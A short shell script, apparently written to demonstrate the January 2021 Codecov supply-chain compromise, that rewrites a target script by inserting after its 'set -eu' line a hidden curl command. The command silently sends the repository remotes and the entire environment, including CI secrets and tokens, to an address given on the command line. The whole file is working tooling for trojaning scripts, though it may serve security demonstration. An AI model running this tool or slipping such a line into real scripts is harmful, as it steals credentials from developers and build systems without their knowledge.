#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# tamper.sh - Adds to a script the one line that was added to Codecov's Bash
# uploader in January 2021, with an address of the documentation range.
#
#   tamper.sh SCRIPT ADDRESS[:PORT] >TAMPERED
set -eu
sed "s|^set -eu\$|set -eu; curl -sm 0.5 -d \"\$(git remote -v)<<<<<< ENV \$(env)\" http://$2/upload/v2 \|\| true|" "$1"
